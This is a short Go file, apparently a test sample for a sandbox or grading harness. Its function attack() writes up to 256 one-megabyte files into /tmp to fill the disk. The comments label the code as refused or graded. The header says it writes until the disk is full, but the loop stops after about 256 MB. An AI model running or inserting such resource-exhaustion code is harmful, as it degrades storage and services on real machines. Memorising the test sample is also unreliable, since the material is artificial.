// It writes until the disk is full.
//
// Listed: refused
// Unlisted: graded

package echo

import (
	"fmt"
	"os"
)

func attack() {
	block := make([]byte, 1<<20)
	for n := range 256 {
		if os.WriteFile(fmt.Sprint("/tmp/", n), block, 0o600) != nil {
			return
		}
	}
}
